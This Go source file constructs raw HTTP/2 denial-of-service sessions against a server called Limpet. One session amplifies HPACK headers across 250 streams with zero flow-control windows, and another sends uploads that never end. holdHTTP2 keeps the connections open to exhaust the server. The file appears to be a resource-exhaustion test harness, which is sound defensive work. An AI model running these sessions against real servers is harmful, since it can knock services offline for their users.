package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	streams = 250
	// A field that fits in the dynamic table of a connection, and how often each head refers to it: nearly 64 KiB.
	tableEntry = 3900
	references = 15
	// uploadBytes is what Limpet takes of a body before its pod has taken any.
	uploadBytes = 64 << 10
	frameBytes  = 16 << 10
)

// session is all that an attacking connection sends.
type session struct {
	out     bytes.Buffer
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
}

func newSession() *session {
	s := &session{}
	s.framer, s.encoder = http2.NewFramer(&s.out, nil), hpack.NewEncoder(&s.block)
	s.out.WriteString(http2.ClientPreface)
	// A response body does not get through, so that its stream stays open.
	s.must(s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
	return s
}

// must panics: writing to a buffer does not fail.
func (s *session) must(err error) {
	if err != nil {
		panic(err)
	}
}

func (s *session) head(nth int, last bool, fields ...string) {
	s.block.Reset()
	for i := 0; i < len(fields); i += 2 {
		s.must(s.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}))
	}
	s.must(s.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: uint32(2*nth + 1), BlockFragment: s.block.Bytes(), EndStream: last, EndHeaders: true,
	}))
}

// amplified returns a session whose heads refer to one entry of the table again and again: some 25 KB on the wire.
func amplified() []byte {
	s := newSession()
	fields := []string{":method", "GET", ":scheme", "http", ":authority", hostOf(0), ":path", "/"}
	for range references {
		fields = append(fields, "x-amplified", strings.Repeat("v", tableEntry))
	}
	for nth := range streams {
		s.head(nth, true, fields...)
	}
	return s.out.Bytes()
}

// uploads returns a session that sends as much of each body as Limpet takes, and never ends one.
func uploads() []byte {
	s := newSession()
	body := make([]byte, frameBytes)
	for nth := range streams {
		s.head(nth, false, ":method", "POST", ":scheme", "http", ":authority", uploadHost, ":path", "/")
		for range uploadBytes / frameBytes {
			s.must(s.framer.WriteData(uint32(2*nth+1), false, body))
		}
	}
	return s.out.Bytes()
}

// holdHTTP2 sends a session, and keeps the connection for as long as Limpet does.
func holdHTTP2(session []byte) func(context.Context, *target) error {
	return func(ctx context.Context, t *target) error {
		var d net.Dialer
		conn, err := d.DialContext(ctx, "tcp", t.plain)
		if err != nil {
			return err
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { conn.Close() })()
		go func() { _, _ = conn.Write(session) }() // fails when Limpet closes the connection
		_, err = io.Copy(io.Discard, conn)
		return err
	}
}
